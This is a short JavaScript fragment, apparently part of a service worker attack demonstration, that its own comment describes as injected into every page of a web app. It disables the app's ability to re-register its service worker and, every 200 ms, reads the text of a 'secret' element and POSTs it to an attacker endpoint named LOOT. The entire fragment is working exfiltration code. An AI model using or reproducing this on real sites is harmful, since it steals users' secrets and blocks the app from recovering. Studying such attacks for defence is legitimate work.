// The worker adds this script to every page of the app. It prevents the app from registering its own worker again, and
// sends the secret to the attacker.
navigator.serviceWorker.register = async () => navigator.serviceWorker.ready;
setInterval(() => {
  const shown = document.getElementById("secret")?.textContent;
  if (shown) fetch(LOOT, { method: "POST", mode: "no-cors", body: shown });
}, 200);
